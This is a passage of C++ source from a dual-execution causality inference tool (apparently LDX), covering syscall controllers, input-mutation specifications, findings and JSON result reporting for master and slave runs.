                          ? std::string("whole")
                          : std::to_string(spec.offset);
    return sourceId + "@" + off;
}

const char *
verdictQualityName(VerdictQuality q)
{
    switch (q) {
      case VerdictQuality::Clean: return "clean";
      case VerdictQuality::Decoupled: return "decoupled";
      case VerdictQuality::TimedOut: return "timed-out";
    }
    return "?";
}

namespace {

/** Sink node id a finding's evidence attaches to. */
std::string
sinkIdOf(const core::Finding &f)
{
    switch (f.kind) {
      case core::CauseKind::RetTokenDiff:
        return "sink:ret-token";
      case core::CauseKind::AllocSizeDiff:
        return "sink:alloc-size";
      case core::CauseKind::TerminationDiff:
        return "sink:termination";
      case core::CauseKind::SinkVanished:
      case core::CauseKind::SinkSiteMismatch:
      case core::CauseKind::SinkValueDiff: {
        // Syscall-sink payloads are "channel|bytes"; a vanished sink
        // recorded only the observing side's payload.
        const std::string &payload =
            f.masterValue.empty() ? f.slaveValue : f.masterValue;
        std::string channel = payload.substr(0, payload.find('|'));
        return "sink:" + (channel.empty() ? "unknown" : channel);
      }
    }
    return "sink:unknown";
}

} // namespace

QueryVerdict
verdictFromResult(const core::DualResult &res)
{
    QueryVerdict v;
    v.causality = res.causality();
    v.masterExit = res.masterExit;
    v.slaveExit = res.slaveExit;
    v.masterTrapped = res.masterTrapped;
    v.slaveTrapped = res.slaveTrapped;
    v.alignedSyscalls = res.alignedSyscalls;
    v.syscallDiffs = res.syscallDiffs;
    v.findings = res.findings.size();

    if (res.deadlocked)
        v.quality = VerdictQuality::TimedOut;
    else if (res.syscallDiffs)
        v.quality = VerdictQuality::Decoupled;
    else
        v.quality = VerdictQuality::Clean;

    std::map<std::pair<std::string, std::string>, std::uint64_t> agg;
    for (const core::Finding &f : res.findings)
        ++agg[{sinkIdOf(f), core::causeKindName(f.kind)}];
    for (const auto &[key, count] : agg)
        v.edges.push_back({key.first, key.second, count});
    // std::map iteration is already (sinkId, kind)-sorted.
    return v;
}

} // namespace ldx::query
