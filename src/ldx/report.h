/**
 * @file
 * Causality findings and the result of one dual execution.
 *
 * The finding kinds mirror the cases of Algorithm 2 (§4.2):
 *  1. SinkVanished      — the peer's counter passed the sink's value
 *                         without producing it (cnt_m < ready_s);
 *  2. SinkSiteMismatch  — equal counter, different syscall/site;
 *  3. SinkValueDiff     — aligned sink, different payloads;
 * plus the VM-level sinks used for the vulnerable program set and a
 * termination-divergence record.
 */
#pragma once

#include <cstdint>
#include <set>
#include <string>
#include <vector>

#include "ir/ir.h"
#include "obs/phase.h"
#include "obs/registry.h"
#include "obs/report.h"
#include "vm/machine.h"

namespace ldx::core {

/** Which execution an event belongs to. */
enum class Side : int
{
    Master = 0,
    Slave = 1,
};

/** The opposite side. */
inline Side
peerOf(Side s)
{
    return s == Side::Master ? Side::Slave : Side::Master;
}

/** Kind of causality evidence. */
enum class CauseKind
{
    SinkVanished,       ///< case 1
    SinkSiteMismatch,   ///< case 2
    SinkValueDiff,      ///< case 3
    RetTokenDiff,       ///< return-address sink differs (attacks)
    AllocSizeDiff,      ///< memory-management argument differs
    TerminationDiff,    ///< one execution trapped / exited differently
};

/** Name of a cause kind. */
const char *causeKindName(CauseKind kind);

/** One piece of causality evidence. */
struct Finding
{
    CauseKind kind = CauseKind::SinkValueDiff;
    Side observer = Side::Master; ///< side that detected it
    int tid = 0;
    int site = -1;
    std::int64_t cnt = 0;
    std::int64_t sysNo = -1;
    std::string masterValue;
    std::string slaveValue;
    ir::SourceLoc loc;

    /** One-line description for reports. */
    std::string describe() const;
};

/**
 * One synchronization action, for Fig. 3 / Fig. 5 style traces.
 * Recorded only when tracing is enabled in the engine config.
 */
struct TraceEvent
{
    enum class Kind
    {
        Copy,         ///< slave copied the master's outcome
        Execute,      ///< master executed and enqueued
        Decouple,     ///< slave executed independently (misaligned)
        SinkAligned,  ///< sinks compared equal
        SinkDiff,     ///< sinks compared different (causality)
        SinkVanish,   ///< sink had no counterpart
        BarrierPair,  ///< backedge rendezvous paired
        BarrierSkip,  ///< backedge passed unpaired (divergence)
    };

    Kind kind;
    Side side;
    int tid = 0;
    std::int64_t sysNo = -1;
    std::int64_t cnt = 0;
    int site = -1;

    /** One-line rendering ("S copy read cnt=3 site#2"). */
    std::string describe() const;
};

/** Stable machine-readable slug of a trace event kind ("copy", ...). */
const char *traceKindName(TraceEvent::Kind kind);

/** Result of one dual execution. */
struct DualResult
{
    std::vector<Finding> findings;

    /** Alignment trace (when EngineConfig::recordTrace is set). */
    std::vector<TraceEvent> trace;

    /** True when any strong causality was inferred. */
    bool causality() const { return !findings.empty(); }

    // Alignment statistics (Table 2).
    std::uint64_t alignedSyscalls = 0;
    std::uint64_t syscallDiffs = 0;
    std::uint64_t totalSlaveSyscalls = 0;
    std::uint64_t barrierPairings = 0;

    /** Fraction of slave syscalls that misaligned. */
    double
    syscallDiffRatio() const
    {
        return totalSlaveSyscalls
            ? static_cast<double>(syscallDiffs) /
              static_cast<double>(totalSlaveSyscalls)
            : 0.0;
    }

    // Per-side termination.
    std::int64_t masterExit = 0;
    std::int64_t slaveExit = 0;
    bool masterTrapped = false;
    bool slaveTrapped = false;
    std::string masterTrapMessage;
    std::string slaveTrapMessage;

    /** Protocol failure (should never happen; surfaced for tests). */
    bool deadlocked = false;

    vm::MachineStats masterStats;
    vm::MachineStats slaveStats;

    /** Tainted resources at the end of the run. */
    std::set<std::string> taintedResources;

    /** Wall-clock seconds of the whole dual execution. */
    double wallSeconds = 0.0;

    /**
     * Registry totals at the end of the run (see
     * docs/OBSERVABILITY.md for the metric name schema). The legacy
     * counters above are read from the same registry, so e.g.
     * `metrics.counterOr("dual.syscalls.aligned")` always equals
     * `alignedSyscalls`.
     */
    obs::MetricsSnapshot metrics;

    /** Pipeline phase timing (mutate/setup/run/verdict, per side). */
    std::vector<obs::PhaseSample> phases;

    /**
     * Flight-recorder post-mortem. `present` only on a non-clean run
     * with EngineConfig::flightRecorder on; see docs/OBSERVABILITY.md
     * ("Flight recorder & divergence reports").
     */
    obs::DivergenceReport divergence;

    /** Number of distinct tainted sinks (counts findings). */
    std::size_t taintedSinkCount() const { return findings.size(); }
};

/** JSON array of phase samples (part of the --metrics=json schema). */
std::string phasesJson(const std::vector<obs::PhaseSample> &phases);

/**
 * The one machine-readable object `--metrics=json` prints: stable
 * top-level keys `causality` (bool), `wall_seconds` (number),
 * `findings` (array of strings), `divergence` (object: `present`
 * bool, `outcome` string, `summary` string, `dropped` number),
 * `phases` (array), `metrics` (object). tests/obs_test.cc pins this
 * schema.
 */
std::string resultJson(const DualResult &res,
                       const std::vector<obs::PhaseSample> &phases);

/**
 * Deterministic subset of resultJson() (`--metrics=json-stable`):
 * same seed and config must yield byte-identical output across
 * repeated runs and both drivers. Keeps `causality`, `findings`,
 * `divergence` ({present, outcome} only), and the protocol-semantic
 * metrics (`dual.*`, `lock.*`, `vm.*`, `os.*` counters); drops
 * wall-clock timing, phases, and the scheduling-dependent
 * driver/chan/watchdog/recorder tallies. tests/fuzz_test.cc pins the
 * determinism property.
 */
std::string resultJsonStable(const DualResult &res);

} // namespace ldx::core
