/**
 * @file
 * The per-execution syscall controllers (Algorithm 2 and its slave
 * dual, §4.2), implemented as vm::SyscallPort backends.
 *
 * Master, at a syscall:
 *  - sink: publish the sink and wait for the slave to reach the same
 *    counter level; classify the outcome into Algorithm 2's cases
 *    1-3; then perform the real output.
 *  - input/non-sink output: execute for real and enqueue the outcome
 *    for the slave.
 *
 * Slave, at a syscall:
 *  - sink: publish and wait symmetrically (the slave's external
 *    output is always suppressed);
 *  - input: look for the master's aligned outcome (same counter,
 *    same site, same argument signature) and copy it; if the master
 *    has demonstrably passed this alignment level (its position
 *    counter exceeds ours, or equals it at a different site), the
 *    syscall has no alignment — execute it independently (decoupled)
 *    and count a syscall difference; otherwise wait.
 *
 * Resource tainting (§7): once an operation on a resource misaligns,
 * its key is tainted and later syscalls touching it never couple.
 *
 * Every wait is guarded by a peer-progress watchdog: if the peer
 * retires no instructions across a large poll budget, the waiter
 * decouples instead of hanging (this also bounds the cost of threads
 * that exist in only one execution).
 */
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <string>

#include "ldx/channel.h"
#include "vm/hooks.h"

namespace ldx::core {

/** Controller tuning knobs. */
struct ControllerOptions
{
    Side side = Side::Master;

    /** Predicate: is an output on this channel a sink? */
    std::function<bool(const std::string &channel)> isSinkChannel;

    /** Share lock-acquisition order master -> slave (§7). */
    bool shareLockOrder = true;

    /** Polls with no peer progress before a lock wait taints. */
    std::uint64_t lockPollTimeout = 50000;

    /** Polls with no peer progress before any wait decouples. */
    std::uint64_t stallTimeout = 100000;
};

/** One side's syscall controller. */
class Controller : public vm::SyscallPort
{
  public:
    Controller(SyncChannel &chan, ControllerOptions opts);

    vm::PortReply onSyscall(const vm::SyscallRequest &req,
                            vm::Machine &vm, os::Outcome &out) override;
    vm::PortReply onBarrier(int tid, std::int64_t site, std::int64_t iter,
                            std::int64_t cnt, std::int64_t reset_delta,
                            vm::Machine &vm) override;
    void onCounterPush(int tid, std::int64_t saved,
                       vm::Machine &vm) override;
    void onCounterPop(int tid, std::int64_t restored,
                      vm::Machine &vm) override;
    void onThreadDone(int tid, vm::Machine &vm) override;
    void onFinished(vm::Machine &vm) override;

  private:
    int self() const { return static_cast<int>(opts_.side); }
    int peer() const { return static_cast<int>(peerOf(opts_.side)); }

    /** Argument signature used to match syscalls across executions. */
    std::uint64_t argSignature(const vm::SyscallRequest &req,
                               vm::Machine &vm) const;

    /** Is this output-class request a sink under the configuration? */
    bool isSink(const vm::SyscallRequest &req, vm::Machine &vm,
                std::string *payload_out, std::string *channel_out) const;

    /** Watchdog bookkeeping; true when the wait should give up. */
    bool waitExpired(int tid, std::uint64_t budget);
    void clearWait(int tid);

    vm::PortReply handleSink(const vm::SyscallRequest &req,
                             vm::Machine &vm, os::Outcome &out,
                             const std::string &payload);
    vm::PortReply handleMasterShared(const vm::SyscallRequest &req,
                                     vm::Machine &vm, os::Outcome &out);
    vm::PortReply handleSlaveShared(const vm::SyscallRequest &req,
                                    vm::Machine &vm, os::Outcome &out);
    vm::PortReply handleLock(const vm::SyscallRequest &req,
                             vm::Machine &vm);

    void bumpProgress();

    /** Record a Fig. 3-style trace event when tracing is on. */
    void trace(TraceEvent::Kind kind, const vm::SyscallRequest &req);

    SyncChannel &chan_;
    ControllerOptions opts_;

    /** Per-thread watchdog state. */
    struct WaitState
    {
        std::uint64_t polls = 0;
        std::uint64_t peerProgressSnapshot = 0;
    };
    std::map<int, WaitState> waits_;
};

} // namespace ldx::core
