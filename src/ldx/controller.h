/**
 * @file
 * The per-execution syscall controllers (Algorithm 2 and its slave
 * dual, §4.2), implemented as vm::SyscallPort backends.
 *
 * Master, at a syscall:
 *  - sink: publish the sink and wait for the slave to reach the same
 *    counter level; classify the outcome into Algorithm 2's cases
 *    1-3; then perform the real output.
 *  - input/non-sink output: execute for real and enqueue the outcome
 *    for the slave.
 *
 * Slave, at a syscall:
 *  - sink: publish and wait symmetrically (the slave's external
 *    output is always suppressed);
 *  - input: look for the master's aligned outcome (same counter,
 *    same site, same argument signature) and copy it; if the master
 *    has demonstrably passed this alignment level (its position
 *    counter exceeds ours, or equals it at a different site), the
 *    syscall has no alignment — execute it independently (decoupled)
 *    and count a syscall difference; otherwise wait.
 *
 * Resource tainting (§7): once an operation on a resource misaligns,
 * its key is tainted and later syscalls touching it never couple.
 *
 * Every wait is guarded by a peer-progress watchdog: if the peer
 * retires no instructions across a large poll budget, the waiter
 * decouples instead of hanging (this also bounds the cost of threads
 * that exist in only one execution).
 *
 * Poll fast path: the VM re-issues a blocked request on every
 * scheduling round, so most controller invocations are re-polls whose
 * decision inputs have not changed. Each Blocked return records a
 * *gate* — the identity of the wait plus the versions of everything
 * the locked evaluation depended on (channel stateVersion, taint-map
 * version, lock-order version, the peer's position seqlock). A
 * re-poll whose gate still holds is answered Blocked without touching
 * the channel mutex; when only the peer's position moved, the wait
 * predicate is re-evaluated against the lock-free PosCell snapshot
 * and the mutex is taken only when the wait might actually resolve.
 */
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <map>
#include <string>
#include <utility>
#include <vector>

#include "ldx/channel.h"
#include "obs/profiler.h"
#include "vm/hooks.h"

namespace ldx::core {

/**
 * Shared snapshot trigger for campaign fork execution. Both
 * controllers point at one instance; each side fires once, at its
 * first Input/Output syscall whose resource key matches @p key,
 * *before* any coupling state or world state is touched — so the
 * paused machines still hold the exact pre-touch prefix state, which
 * is what makes the captured snapshot policy-independent (mutations
 * only change the values behind matching keys).
 *
 * With pauseOnHit the firing side pauses its machine and the syscall
 * is answered Blocked; the engine captures a fork point once both
 * sides are paused, then resumes (the hit flags stay set, so the
 * re-issued syscalls flow normally). Without pauseOnHit the trigger
 * is a pure probe: it records where the prefix ends (for the
 * snapshot-off measurement of campaign.dual.prefix_instrs) and lets
 * execution continue undisturbed.
 */
struct SnapshotTrigger
{
    std::string key;
    bool pauseOnHit = true;
    std::atomic<bool> hit[2] = {false, false};
    /** vm.stats().instructions at each side's first key touch. */
    std::atomic<std::uint64_t> prefixInstrs[2] = {0, 0};

    bool
    fired(int side) const
    {
        return hit[side].load(std::memory_order_acquire);
    }

    bool
    bothFired() const
    {
        return fired(0) && fired(1);
    }
};

/** Controller tuning knobs. */
struct ControllerOptions
{
    Side side = Side::Master;

    /** Predicate: is an output on this channel a sink? */
    std::function<bool(const std::string &channel)> isSinkChannel;

    /** Share lock-acquisition order master -> slave (§7). */
    bool shareLockOrder = true;

    /** Polls with no peer progress before a lock wait taints. */
    std::uint64_t lockPollTimeout = 50000;

    /** Polls with no peer progress before any wait decouples. */
    std::uint64_t stallTimeout = 100000;

    /**
     * Guest-level stall attribution (the profiler's coupling-cost
     * view): when non-null, every closed wait folds its episode,
     * poll count, and watchdog expiry into the entry keyed by the
     * instrumentation site that gated it. Single-threaded like the
     * controller itself.
     */
    obs::SiteStallMap *stalls = nullptr;

    /** Snapshot trigger/probe; nullptr for ordinary runs. */
    SnapshotTrigger *trigger = nullptr;
};

/** One side's syscall controller. */
class Controller : public vm::SyscallPort
{
  public:
    Controller(SyncChannel &chan, ControllerOptions opts);

    vm::PortReply onSyscall(const vm::SyscallRequest &req,
                            vm::Machine &vm, os::Outcome &out) override;
    vm::PortReply onBarrier(int tid, std::int64_t site, std::int64_t iter,
                            std::int64_t cnt, std::int64_t reset_delta,
                            vm::Machine &vm) override;
    void onCounterPush(int tid, std::int64_t saved,
                       vm::Machine &vm) override;
    void onCounterPop(int tid, std::int64_t restored,
                      vm::Machine &vm) override;
    void onThreadDone(int tid, vm::Machine &vm) override;
    void onFinished(vm::Machine &vm) override;

  private:
    int self() const { return static_cast<int>(opts_.side); }
    int peer() const { return static_cast<int>(peerOf(opts_.side)); }

    /** Which handler a fast-poll gate belongs to. */
    enum class PollSite
    {
        Syscall, ///< shared input / sink waits
        Barrier,
        Lock,
    };

    /** Per-tid ThreadChannel lookup without SyncChannel's map mutex. */
    ThreadChannel &channel(int tid);

    /** Argument signature used to match syscalls across executions. */
    std::uint64_t argSignature(const vm::SyscallRequest &req,
                               vm::Machine &vm) const;

    /** Is this output-class request a sink under the configuration? */
    bool isSink(const vm::SyscallRequest &req, vm::Machine &vm,
                std::string *payload_out, std::string *channel_out) const;

    /** Watchdog bookkeeping; true when the wait should give up. */
    bool waitExpired(int tid, std::uint64_t budget);
    void clearWait(int tid);

    /**
     * True when the re-poll identified by (site of call, tid, cnt,
     * site, iter) provably still blocks, judged entirely from
     * lock-free state. On true the caller returns Blocked without
     * acquiring the channel mutex; on false it runs the full locked
     * evaluation (which re-records or clears the gate).
     */
    bool fastPollBlocked(PollSite where, int tid, std::int64_t cnt,
                         int site, std::int64_t iter);

    /** Drop any recorded gate for @p tid (slow path is running). */
    void invalidateGate(int tid);

    vm::PortReply handleSink(const vm::SyscallRequest &req,
                             vm::Machine &vm, os::Outcome &out,
                             const std::string &payload);
    vm::PortReply handleMasterShared(const vm::SyscallRequest &req,
                                     vm::Machine &vm, os::Outcome &out);
    vm::PortReply handleSlaveShared(const vm::SyscallRequest &req,
                                    vm::Machine &vm, os::Outcome &out);
    vm::PortReply handleLock(const vm::SyscallRequest &req,
                             vm::Machine &vm);

    void bumpProgress();

    /** Record a Fig. 3-style trace event when tracing is on. */
    void trace(TraceEvent::Kind kind, const vm::SyscallRequest &req);

    /** Append one event to this side's flight-recorder ring. */
    void recordEvt(obs::RecKind kind, int tid, std::int64_t cnt,
                   int site, std::int64_t sysNo, std::uint64_t arg = 0);

    SyncChannel &chan_;
    ControllerOptions opts_;
    obs::FlightRecorder *rec_;

    /** Per-thread watchdog + poll-gate state. */
    struct WaitState
    {
        std::uint64_t polls = 0;
        std::uint64_t peerProgressSnapshot = 0;
        /**
         * Sticky watchdog verdict: once a wait expires it stays
         * expired until the wait resolves (clearWait). The locked
         * path consults this first, so a fast-path expiry followed by
         * the locked re-evaluation cannot silently re-arm the budget.
         */
        bool expired = false;

        /** What kind of wait the recorded gate protects. */
        enum class Gate : std::uint8_t
        {
            None,
            Input,      ///< slave shared-input wait
            SinkWait,   ///< sink wait, peer sink absent/resolved
            SinkBehind, ///< sink wait, peer's sink is behind/unknown
            Barrier,
            Lock,
        };
        Gate gate = Gate::None;
        /** One Block event is recorded per wait (not per re-poll). */
        bool blockRecorded = false;
        std::int64_t gateSysNo = -1; ///< syscall waited at (-1 barrier)
        std::int64_t gateCnt = 0;
        int gateSite = -1;
        std::int64_t gateIter = 0;
        std::int64_t gateTheirsCnt = 0; ///< SinkBehind: peer sink cnt
        std::int64_t gateLockId = 0;    ///< Lock: mutex id
        std::uint64_t gateState = 0;    ///< ThreadChannel::stateVersion
        std::uint64_t gateTaint = 0;    ///< taint-map version
        std::uint64_t gateLockVer = 0;  ///< SyncChannel::lockVersion
        std::uint64_t gatePeerSeq = 0;  ///< peer PosCell sequence
        /** My counter stack at gate time (stable while blocked). */
        std::vector<std::int64_t> gateMyStack;
    };
    std::map<int, WaitState> waits_;

    /** Record @p w's Block event (first block of the wait only). */
    void recordBlock(WaitState &w, int tid, std::int64_t sysNo);

    /** Slave lock-follow poll budgets (was shared channel state). */
    std::map<std::pair<int, std::int64_t>, std::uint64_t> lockPolls_;

    /** Stable ThreadChannel pointers (channels are never removed). */
    std::map<int, ThreadChannel *> channelCache_;

    // Fast-poll scratch (avoids per-poll allocation).
    Position peerPosScratch_;
    std::vector<std::int64_t> peerStackScratch_;

  public:
    /**
     * Poll-gate / watchdog state by value (snapshot forking). A
     * forked controller must resume with the captured wait budgets —
     * a fresh map would re-arm every in-flight watchdog and the fork
     * could decouple later than the full run it must replicate. The
     * struct is opaque to callers: capture from the paused
     * controller, restore into the fork's.
     */
    struct Image
    {
        std::map<int, WaitState> waits;
        std::map<std::pair<int, std::int64_t>, std::uint64_t> lockPolls;
    };

    Image captureImage() const { return {waits_, lockPolls_}; }

    void
    restoreImage(const Image &image)
    {
        waits_ = image.waits;
        lockPolls_ = image.lockPolls;
    }
};

} // namespace ldx::core
