/**
 * @file
 * Source specification and mutation strategies (§3 "Use of LDX",
 * §8.3 "Input Mutation").
 *
 * Sources are named pieces of the environment (an env var, a file, a
 * peer's scripted responses, inbound requests). The slave's world is
 * derived from the master's with the selected sources mutated, and
 * the corresponding resource keys are pre-tainted so the coupling
 * never overwrites the mutation with the master's outcome — the
 * counter scheme still aligns those syscalls, they just execute on
 * each side's own world.
 *
 * The paper's default strategy is off-by-one, which provably detects
 * every strong (one-to-one) causality: a one-to-one mapping must send
 * different source values to different sink values.
 */
#pragma once

#include <string>
#include <vector>

#include "os/world.h"
#include "support/prng.h"

namespace ldx::core {

/** How a source value is perturbed in the slave. */
enum class MutationStrategy
{
    OffByOne,  ///< first byte += 1 (paper default)
    Zero,      ///< first byte := 0
    BitFlip,   ///< flip the lowest bit of the first byte
    Random,    ///< first byte := random
};

/** Name of a strategy. */
const char *mutationStrategyName(MutationStrategy s);

/** One source to mutate. */
struct SourceSpec
{
    enum class Kind
    {
        EnvVar,        ///< key = variable name
        File,          ///< key = absolute path
        PeerResponses, ///< key = host name (every response mutated)
        Incoming,      ///< key unused (every inbound request mutated)
    };

    /** Sentinel offset: mutate every byte of the value. */
    static constexpr std::size_t kWholeValue =
        static_cast<std::size_t>(-1);

    Kind kind = Kind::EnvVar;
    std::string key;
    /**
     * Byte offset mutated within the value (clamped to its size), or
     * kWholeValue to perturb every byte.
     */
    std::size_t offset = 0;

    /** Copy of this source that mutates its whole value. */
    SourceSpec
    wholeValue() const
    {
        SourceSpec s = *this;
        s.offset = kWholeValue;
        return s;
    }

    static SourceSpec
    env(std::string name, std::size_t off = 0)
    {
        return {Kind::EnvVar, std::move(name), off};
    }

    static SourceSpec
    file(std::string path, std::size_t off = 0)
    {
        return {Kind::File, std::move(path), off};
    }

    static SourceSpec
    peer(std::string host, std::size_t off = 0)
    {
        return {Kind::PeerResponses, std::move(host), off};
    }

    static SourceSpec
    incoming(std::size_t off = 0)
    {
        return {Kind::Incoming, "", off};
    }

    /** Taint key of the underlying resource ("" for Incoming). */
    std::string resourceKey() const;
};

/** Result of applying the mutation to a world. */
struct MutatedWorld
{
    os::WorldSpec world;
    std::vector<std::string> taintKeys; ///< pre-tainted resources
    bool anyChange = false;             ///< a source byte was altered
};

/** Apply @p strategy to @p sources of @p base. */
MutatedWorld mutateWorld(const os::WorldSpec &base,
                         const std::vector<SourceSpec> &sources,
                         MutationStrategy strategy, Prng &prng);

/** Mutate one byte of @p value in place per @p strategy. */
bool mutateByteAt(std::string &value, std::size_t offset,
                  MutationStrategy strategy, Prng &prng);

} // namespace ldx::core
