#include "ldx/report.h"

#include "ldx/channel.h"

#include "obs/json.h"
#include "os/sysno.h"
#include "support/strings.h"

namespace ldx::core {

const char *
causeKindName(CauseKind kind)
{
    switch (kind) {
      case CauseKind::SinkVanished: return "sink-vanished";
      case CauseKind::SinkSiteMismatch: return "sink-site-mismatch";
      case CauseKind::SinkValueDiff: return "sink-value-diff";
      case CauseKind::RetTokenDiff: return "ret-token-diff";
      case CauseKind::AllocSizeDiff: return "alloc-size-diff";
      case CauseKind::TerminationDiff: return "termination-diff";
    }
    return "?";
}

std::string
Finding::describe() const
{
    std::string out = causeKindName(kind);
    out += " at ";
    out += sysNo >= 0 ? os::sysName(sysNo) : std::string("site");
    out += "#" + std::to_string(site);
    out += " cnt=" + std::to_string(cnt);
    if (loc.line)
        out += " line=" + std::to_string(loc.line);
    if (!masterValue.empty() || !slaveValue.empty()) {
        out += " master=\"" + escapeBytes(masterValue, 32) +
               "\" slave=\"" + escapeBytes(slaveValue, 32) + "\"";
    }
    return out;
}

} // namespace ldx::core

namespace ldx::core {

const char *
traceKindName(TraceEvent::Kind kind)
{
    switch (kind) {
      case TraceEvent::Kind::Copy: return "copy";
      case TraceEvent::Kind::Execute: return "execute";
      case TraceEvent::Kind::Decouple: return "decouple";
      case TraceEvent::Kind::SinkAligned: return "sink_aligned";
      case TraceEvent::Kind::SinkDiff: return "sink_diff";
      case TraceEvent::Kind::SinkVanish: return "sink_vanish";
      case TraceEvent::Kind::BarrierPair: return "barrier_pair";
      case TraceEvent::Kind::BarrierSkip: return "barrier_skip";
    }
    return "?";
}

std::string
TraceEvent::describe() const
{
    const char *k = "?";
    switch (kind) {
      case Kind::Copy: k = "copy"; break;
      case Kind::Execute: k = "exec"; break;
      case Kind::Decouple: k = "decouple"; break;
      case Kind::SinkAligned: k = "sink-aligned"; break;
      case Kind::SinkDiff: k = "sink-DIFF"; break;
      case Kind::SinkVanish: k = "sink-VANISH"; break;
      case Kind::BarrierPair: k = "barrier-pair"; break;
      case Kind::BarrierSkip: k = "barrier-skip"; break;
    }
    std::string out = side == Side::Master ? "[M" : "[S";
    if (tid)
        out += "/t" + std::to_string(tid);
    out += "] ";
    out += k;
    if (sysNo >= 0)
        out += " " + os::sysName(sysNo);
    out += " cnt=" + std::to_string(cnt);
    if (site >= 0)
        out += " site#" + std::to_string(site);
    return out;
}

std::string
phasesJson(const std::vector<obs::PhaseSample> &phases)
{
    std::string out = "[";
    for (std::size_t i = 0; i < phases.size(); ++i) {
        if (i)
            out += ',';
        out += "{\"name\":" + obs::jsonString(phases[i].name);
        out += ",\"depth\":" + std::to_string(phases[i].depth);
        out += ",\"start_us\":" + std::to_string(phases[i].startUs);
        out += ",\"seconds\":" + obs::jsonNumber(phases[i].seconds);
        out += '}';
    }
    out += ']';
    return out;
}

std::string
resultJson(const DualResult &res,
           const std::vector<obs::PhaseSample> &phases)
{
    std::string out = "{\"causality\":";
    out += res.causality() ? "true" : "false";
    out += ",\"wall_seconds\":" + obs::jsonNumber(res.wallSeconds);
    out += ",\"findings\":[";
    for (std::size_t i = 0; i < res.findings.size(); ++i) {
        if (i)
            out += ',';
        out += obs::jsonString(res.findings[i].describe());
    }
    out += "],\"divergence\":{\"present\":";
    out += res.divergence.present ? "true" : "false";
    out += ",\"outcome\":" + obs::jsonString(res.divergence.outcome);
    out += ",\"summary\":" + obs::jsonString(res.divergence.summary());
    out += ",\"dropped\":" +
           std::to_string(res.divergence.droppedEvents[0] +
                          res.divergence.droppedEvents[1]);
    out += '}';
    out += ",\"phases\":" + phasesJson(phases);
    out += ",\"metrics\":" + res.metrics.toJson();
    out += '}';
    return out;
}

std::string
resultJsonStable(const DualResult &res)
{
    auto stable = [](const std::string &name) {
        return name.rfind("dual.", 0) == 0 ||
               name.rfind("lock.", 0) == 0 ||
               name.rfind("vm.", 0) == 0 ||
               name.rfind("os.", 0) == 0;
    };
    std::string out = "{\"causality\":";
    out += res.causality() ? "true" : "false";
    out += ",\"findings\":[";
    for (std::size_t i = 0; i < res.findings.size(); ++i) {
        if (i)
            out += ',';
        out += obs::jsonString(res.findings[i].describe());
    }
    out += "],\"divergence\":{\"present\":";
    out += res.divergence.present ? "true" : "false";
    out += ",\"outcome\":" + obs::jsonString(res.divergence.outcome);
    out += "},\"metrics\":{\"counters\":{";
    bool first = true;
    for (const auto &c : res.metrics.counters) {
        if (!stable(c.first))
            continue;
        if (!first)
            out += ',';
        first = false;
        out += obs::jsonString(c.first) + ":" +
               std::to_string(c.second);
    }
    out += "}}}";
    return out;
}

} // namespace ldx::core
