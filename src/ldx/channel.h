/**
 * @file
 * Shared coupling state between the master and slave controllers.
 *
 * Per paired thread (thread i of the master couples with thread i of
 * the slave, §7) the channel holds:
 *  - each side's published *position* — the counter value and site it
 *    is currently executing or waiting at. Positions make waits
 *    resolvable: the counter invariant guarantees a peer whose
 *    position counter exceeds mine has passed my alignment level for
 *    good (a post-loop syscall counter strictly exceeds every in-loop
 *    value), so I can stop waiting and decouple;
 *  - the master's outcome queue (Algorithm 2's Q), purged at every
 *    paired barrier so (cnt, site) keys stay unique per iteration
 *    window;
 *  - a sink rendezvous slot per side (Algorithm 2 lines 2-6 and its
 *    slave dual);
 *  - the barrier pairing record for the current backedge rendezvous.
 *
 * All fields of a ThreadChannel are guarded by its mutex; the
 * controllers use a poll-based protocol (the VM re-issues blocked
 * requests), so no condition variables are needed and the same code
 * drives both the deterministic lockstep driver and the two-OS-thread
 * driver.
 *
 * Two lock-free mirrors keep the poll fast path off that mutex:
 *  - each side's position (and counter stack) is also published
 *    through a seqlock PosCell, so a blocked peer re-evaluates its
 *    wait predicate against a consistent snapshot without locking;
 *  - every *structural* mutation (queue push, sink slot change,
 *    barrier pairing, thread-done flag) bumps stateVersion, so a
 *    waiter whose inputs are provably unchanged can return Blocked
 *    without touching the mutex at all (see Controller::fastPoll).
 */
#pragma once

#include <array>
#include <atomic>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <set>
#include <string>
#include <vector>

#include "ldx/report.h"
#include "obs/scope.h"
#include "os/kernel.h"
#include "os/taintmap.h"

namespace ldx::core {

/** What a published position refers to. */
enum class PosKind : std::uint8_t
{
    Idle,     ///< not yet at any sync point
    Running,  ///< between sync points (post-barrier / post-push)
    Input,    ///< at an input-class syscall
    Sink,     ///< waiting at a sink for comparison
    Barrier,  ///< waiting at a loop backedge
    Local,    ///< at a local-class syscall
};

/** One side's published position. */
struct Position
{
    PosKind kind = PosKind::Idle;
    std::int64_t cnt = 0;
    int site = -1;
    std::int64_t iter = 0; ///< barrier iteration (Barrier only)
};

/** A master syscall outcome awaiting reuse by the slave. */
struct QueueEntry
{
    std::int64_t cnt = 0;
    int site = -1;
    std::int64_t sysNo = 0;
    std::uint64_t argSig = 0; ///< FNV digest of significant arguments
    os::Outcome out;
    bool consumed = false;
};

/** A sink published by one side, awaiting the peer's comparison. */
struct SinkSlot
{
    bool valid = false;
    bool resolved = false; ///< peer compared; publisher may proceed
    bool divergent = false; ///< the comparison found a difference
    std::int64_t cnt = 0;
    int site = -1;
    std::int64_t sysNo = 0;
    std::string payload;
    ir::SourceLoc loc;
};

/** Pairing record for one backedge rendezvous. */
struct BarrierPair
{
    bool valid = false;
    std::int64_t site = -1;
    std::int64_t iter = 0;
    bool consumed[2] = {false, false};
};

/**
 * Hierarchical progress comparison. Counters inside an indirect or
 * recursive call restart from zero (§6), so raw counter values are
 * only comparable at the same counter-stack context. Positions are
 * therefore compared lexicographically over (saved counter stack +
 * current counter): the first differing level decides; a deeper or
 * shallower peer with an equal prefix is *incomparable* (the waiter
 * keeps polling until the peer publishes a decisive position).
 */
enum class Progress
{
    Behind,   ///< peer is provably behind this position
    Same,     ///< identical stack context and counter
    Passed,   ///< peer is provably past this position
    Unknown,  ///< different depth, equal prefix: cannot conclude
};

/** Compare the peer's published progress against (stack, cnt). */
Progress compareProgress(const std::vector<std::int64_t> &peer_stack,
                         std::int64_t peer_cnt,
                         const std::vector<std::int64_t> &my_stack,
                         std::int64_t my_cnt);

/**
 * A mutex that counts its acquisitions. The count is the contention
